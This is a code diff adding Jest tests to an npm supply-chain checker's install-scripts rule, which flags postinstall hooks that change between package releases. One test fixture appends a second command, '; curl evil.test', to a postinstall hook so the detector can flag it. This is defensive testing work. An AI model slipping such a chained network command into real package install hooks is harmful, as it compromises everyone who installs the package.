@@ -1,6 +1,9 @@
 import { describe, expect, test } from '@jest/globals';
 
 import type { InstallHooks } from '../../src/model/index.ts';
+import { historyOf } from '../../src/evidence/packument-evidence.ts';
+import { tarball } from '../../src/model/example.ts';
+import { readPackument } from '../../src/registry/packument.ts';
 import installScripts from '../../src/rules/install-scripts.ts';
 import { absent, dossierOf, exampleNow, history, present, release, unavailable } from '../support/dossier.ts';
 import { codesOf, judge } from '../support/judge.ts';
@@ -52,6 +55,51 @@ describe('an upgrade', () => {
     expect(`${one?.message} ${one?.remediation}`).not.toContain('Ignore');
     expect(one?.message).toBe(other?.message);
     expect(one?.fingerprint).not.toBe(other?.fingerprint);
+  });
+});
+
+describe('a hook that holds the own version of its release', () => {
+  const check = (version: string, more = '') => ({ postinstall: `napi-postinstall left-pad ${version} check${more}` });
+
+  test('is not changed by an upgrade, by what the tarballs say either', () => {
+    expect(codesOf(installScripts, upgrade(check('1.2.0'), check('1.3.0')))).toEqual([]);
+    const { evidence, ...dossier } = upgrade({}, {});
+    const tarballs = {
+      tarball: tarball({ hooks: check('1.3.0') }),
+      predecessorTarball: tarball({ version: '1.2.0', hooks: check('1.2.0') }),
+    };
+    expect(codesOf(installScripts, { ...dossier, evidence: { ...evidence, ...tarballs } })).toEqual([]);
+  });
+
+  test.each([
+    ['that is not its own', check('1.2.0'), check('9.9.9')],
+    ['in an upgrade that adds something else', check('1.2.0'), check('1.3.0', '; curl evil.test')],
+    ['of a base branch whose hook has another', check('1.1.0'), check('1.3.0')],
+  ])('is changed where it has a version %s', (_, before, after) => {
+    expect(codesOf(installScripts, upgrade(before, after))).toEqual(['changed-hook']);
+  });
+
+  test('is established where releases have carried it, each with its own version', () => {
+    const packument = (former: object) =>
+      readPackument(
+        {
+          name: 'left-pad',
+          time: { '1.0.0': ago(400 * day), '1.3.0': ago(day) },
+          versions: { '1.0.0': { scripts: former }, '1.3.0': { scripts: check('1.3.0') } },
+        },
+        'left-pad',
+        ['1.3.0'],
+      );
+    const codesAfter = (former: object) => {
+      const read = packument(former);
+      if ('malformed' in read) throw new Error(read.malformed);
+      const evidence = { release: release({ hooks: check('1.3.0') }), history: present(historyOf(read)) };
+      return codesOf(installScripts, dossierOf({ evidence }));
+    };
+    expect(codesAfter(check('1.0.0'))).toEqual(['established']);
+    expect(codesAfter(check('1.3.0'))).toEqual(['established']);
+    expect(codesAfter(check('1.2.0'))).toEqual(['first-seen']);
+    expect(codesAfter({ postinstall: 'napi-postinstall evil 1.0.0 check' })).toEqual(['first-seen']);
   });
 });
 
